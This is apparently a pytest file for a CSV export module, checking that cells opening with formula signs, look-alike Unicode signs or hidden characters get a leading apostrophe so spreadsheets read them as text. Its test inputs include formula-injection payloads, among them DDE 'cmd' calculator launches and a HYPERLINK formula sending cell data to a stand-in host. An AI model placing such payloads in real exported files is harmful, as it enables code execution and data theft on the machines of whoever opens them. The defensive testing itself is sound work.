"""A table that is given out holds words, and no program takes them for anything else."""

# ruff: noqa: RUF001 -- signs that look like others are what it is about

import csv
from datetime import date
from io import StringIO

import pytest

from workbook.web.tables_out import csv_bytes, csv_file, is_formula_like

SIGNS = (
    "=",
    "+",
    "-",
    "@",
    "%",
    "＝",
    "＋",
    "－",
    "＠",
    "﹦",
    "﹢",
    "﹣",
    "﹫",
    "⁼",
    "⁺",
    "₋",
    "−",
)
HIDDEN = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\u00a0",
    "\u200b",
    "\ufeff",
    "\u202e",
    "\u3000",
    "'",
    '"',
    ";",
)
HOSTILE = (
    *(f"{before}{sign}1+1" for sign in SIGNS for before in HIDDEN),
    '=HYPERLINK("http://elsewhere.example/?"&A1,"Open")', "=cmd|' /c calc'!A0", "@SUM(1+1)*cmd",
    "+cmd|'/c calc'!A0", "-2+3+cmd|'/c calc'!A0", ";=1+1", ";;;=1+1", "\t=1+1", ",=1+1", "|=1+1",
    "%0A-1+1", '"=1+1', "'=1+1", "“=1+1", " \u200b ＝1+1", "\x00=1+1", "\x1b=1+1", "; note",
    "\tnote",
)  # fmt: skip
PLAIN = (
    "", "Kim Reed", "1 + 1 = 2", "a=b", "x@y.example", "– a dash in a sentence", "“Quoted” words",
    "שלום", "غريس 👩‍👧", "(in brackets)", "#1", "07700 900001", "50 %", "«Nein»",
)  # fmt: skip


def read(content: bytes) -> list[list[str]]:
    return list(csv.reader(StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_start_becomes_a_text(text: str) -> None:
    [[cell, beside]] = read(csv_bytes([(text, "beside")]))
    assert beside == "beside"
    assert cell[0] == "'"
    assert (
        cell[1:].split() == text.replace("\x00", " ").replace("\x1b", " ").split() or "\n" in text
    )


def test_fifty_hostile_starts_and_more_are_defused() -> None:
    cells = [row[0] for row in read(csv_bytes([(text,) for text in HOSTILE]))]
    defused = sum(cell.startswith("'") for cell in cells)
    print(f"{len(HOSTILE)} hostile starts, {defused} defused")
    assert len(set(HOSTILE)) >= 50
    assert defused == len(HOSTILE)


@pytest.mark.parametrize("text", PLAIN)
def test_plain_words_stay_as_they_are(text: str) -> None:
    assert read(csv_bytes([(text,)])) == [[text]]
    assert not is_formula_like(text)


def test_every_cell_stands_in_quotation_marks_and_no_line_breaks_in_one() -> None:
    content = csv_bytes([("a", 'b "c"'), ("d\r\n=1+1", 3)])
    assert content == '\ufeff"a","b ""c"""\r\n"d  =1+1","3"\r\n'.encode()


def test_numbers_and_days_are_written_as_such() -> None:
    assert read(csv_bytes([(-5, date(2026, 11, 20))])) == [["-5", "2026-11-20"]]


def test_it_is_given_out_as_a_file_that_can_do_nothing() -> None:
    answer = csv_file("who-opened", [("a",)])
    assert answer.headers["content-disposition"] == 'attachment; filename="who-opened.csv"'
    assert answer.headers["content-security-policy"].endswith("sandbox")
